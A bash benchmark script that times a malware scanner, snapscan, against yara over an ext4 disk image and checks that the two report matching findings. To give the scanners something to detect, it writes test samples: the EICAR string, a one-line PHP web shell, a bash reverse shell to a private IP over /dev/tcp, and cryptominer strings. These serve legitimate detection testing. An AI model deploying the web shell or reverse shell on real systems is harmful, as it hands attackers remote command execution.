#!/usr/bin/env bash
# Issue 4's benchmark on a disk image: `snapscan scan` over an ext4 image
# made (mkfs.ext4 -d) from the same tree that `yara -r -p 2` scans in a
# folder, same rules (signature-base: yara compiled by yarac, snapscan the
# sources, its compiled-rules cache warm), same 2 workers, page cache
# warm, run alternately: yara, snapscan (verdict cache on, the default),
# snapscan --no-cache. The tree holds a few planted files that
# signature-base finds, so that every round checks the answer: each run's
# exit status (yara 0; snapscan 1, findings, never 2 or 3) and snapscan's
# findings (path, rule) equal to yara's. A round that fails a check is
# reported and the script exits non-zero: a run that stopped early cannot
# score a good ratio. Prints each run's wall and CPU seconds and peak RSS,
# and the median ratios snapscan/yara of wall and CPU time.
#
#   bench/scan-image.sh
#
# Environment: RULES (the rule sources, a folder or a file), RUNS (3),
# WORKERS (2), WORK (/tmp/snapscan-bench), as bench/scan-vs-yara.sh, which
# makes the tree and the compiled rules;
# SNAPSCAN (a snapscan binary to time instead of building this tree's),
# BEFORE (another snapscan binary, e.g. a build of an older commit: timed
# and checked too, as snapscan-before, in every round, so that before and
# after share their rounds and their yara references), NOCACHE=0 (skip
# the --no-cache runs).
set -euo pipefail
here=$(cd "$(dirname "$0")/.." && pwd)
export WORK=${WORK:-/tmp/snapscan-bench} WORKERS=${WORKERS:-2}
RUNS=${RUNS:-3}
SETUP_ONLY=1 bash "$here/bench/scan-vs-yara.sh" >/dev/null # tree, rules.yarc

# Planted files (EICAR, a PHP web shell, a bash reverse shell, miner
# strings): findings to compare. Adding them remakes the image.
planted=$WORK/tree/planted
if [ ! -f "$WORK/planted.done" ]; then
	mkdir -p "$planted"
	printf 'X5O!P%%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' >"$planted/eicar.com"
	printf '<?php @eval($_POST["cmd"]); ?>\n' >"$planted/shell.php"
	printf '#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n' >"$planted/rev.sh"
	printf 'stratum+tcp://pool.minexmr.com:4444 xmrig --donate-level\n' >"$planted/miner.txt"
	rm -f "$WORK/tree.ext4.done"
	touch "$WORK/planted.done"
fi
img=$WORK/tree.ext4
if [ ! -f "$img.done" ]; then
	size=$(du -sk --apparent-size "$WORK/tree" | awk '{print int($1 * 1.3 + 65536)}')
	rm -f "$img"
	mkfs.ext4 -q -F -d "$WORK/tree" "$img" "${size}K"
	touch "$img.done"
fi
bin=${SNAPSCAN:-$WORK/snapscan}
if [ -z "${SNAPSCAN:-}" ]; then
	(cd "$here" && go build -o "$bin" ./cmd/snapscan)
fi
cat "$img" >/dev/null
find "$WORK/tree" -type f -print0 | xargs -0 cat >/dev/null

# Archives off: the yara tool does not look inside them either. snapscan
# is given the rule sources (yara the same, compiled by yarac): with
# them it compiles apart the sources that read the path externals, which
# a compiled file does not allow (see scanner.Rules.PathSplit). Its
# compiled-rules cache is made warm first, by a run that is not timed, as
# yara's rules.yarc is compiled before the rounds.
RULES=${RULES:-$here/../shared/rules/signature-base}
snap=("$bin" scan --rules "$RULES" --workers "$WORKERS" --no-archives --no-progress --json)
"${snap[@]}" "$img" >/dev/null 2>&1 || [ $? = 1 ] || { echo "the warm-up scan failed" >&2; exit 1; }
fails=$WORK/scan-image.fail
: >"$fails"
run() { # label want-status command...: prints "label wall cpu rssKiB"; checks status and findings
	local label=$1 want=$2
	shift 2
	local rc=0
	/usr/bin/time -f "$label %e %U %S %M" -o "$WORK/time.$label" "$@" >"$WORK/out.$label" 2>"$WORK/err.$label" || rc=$?
	if [ "$rc" != "$want" ]; then
		echo "FAIL round $i $label: exit status $rc, want $want: $(tail -3 "$WORK/err.$label" | tr '\n' ' ')" | tee -a "$fails" >&2
	fi
	if [ "$label" = yara ]; then
		sed "s| $WORK/tree| |" "$WORK/out.yara" | awk '{print $2, $1}' | sort >"$WORK/found.yara"
	else
		jq -r '.findings[] | .path as $p | .matches[] | "\($p) \(.rule)"' "$WORK/out.$label" | sort >"$WORK/found.$label"
		if ! cmp -s "$WORK/found.yara" "$WORK/found.$label"; then
			{
				echo "FAIL round $i $label: findings differ from yara's (<yara >$label):"
				diff "$WORK/found.yara" "$WORK/found.$label" | grep '^[<>]' || true
			} | tee -a "$fails" >&2
		fi
	fi
	# time's file starts with "Command exited with non-zero status N"
	# when the status is not 0.
	awk -v l="$label" '$1 == l {printf "%s %.2f %.2f %d\n", $1, $2, $3 + $4, $5}' "$WORK/time.$label"
}
for i in $(seq 1 "$RUNS"); do
	run yara 0 yara -r -p "$WORKERS" -N -C "$WORK/rules.yarc" "$WORK/tree"
	if [ -n "${BEFORE:-}" ]; then
		run snapscan-before 1 "$BEFORE" "${snap[@]:1}" "$img"
	fi
	run snapscan 1 "${snap[@]}" "$img"
	if [ "${NOCACHE:-1}" != 0 ]; then
		run snapscan-nocache 1 "${snap[@]}" --no-cache "$img"
	fi
done | tee "$WORK/scan-image.txt"
echo "findings: $(wc -l <"$WORK/found.yara") (path, rule) pairs from yara, the same from snapscan in every round unless FAIL above"
awk '{ wall[$1] = wall[$1] " " $2; cpu[$1] = cpu[$1] " " $3; rss[$1] = ($4 > rss[$1]) ? $4 : rss[$1] }
END { for (k in wall) printf "%-17s wall%s  cpu%s  peak RSS %d MiB\n", k, wall[k], cpu[k], rss[k] / 1024 }' "$WORK/scan-image.txt"
median() { sort -n | awk '{ a[NR] = $1 } END { print a[int((NR + 1) / 2)] }'; }
ratios() { # ratios LABEL FIELD: each run's figure over yara's in the same round
	awk -v l="$1" -v f="$2" '$1 == "yara" { y = $f } $1 == l { printf "%.3f\n", $f / y }' "$WORK/scan-image.txt"
}
for l in snapscan-before snapscan snapscan-nocache; do
	if grep -q "^$l " "$WORK/scan-image.txt"; then
		echo "median ratio $l/yara: wall $(ratios $l 2 | median), cpu $(ratios $l 3 | median)"
	fi
done
echo "(snapscan: verdict cache on, the default; goal wall <= 0.9, cpu <= 0.95)"
if [ -s "$fails" ]; then
	echo "$(grep -c '^FAIL' "$fails") checks failed: the figures above do not count" >&2
	exit 1
fi
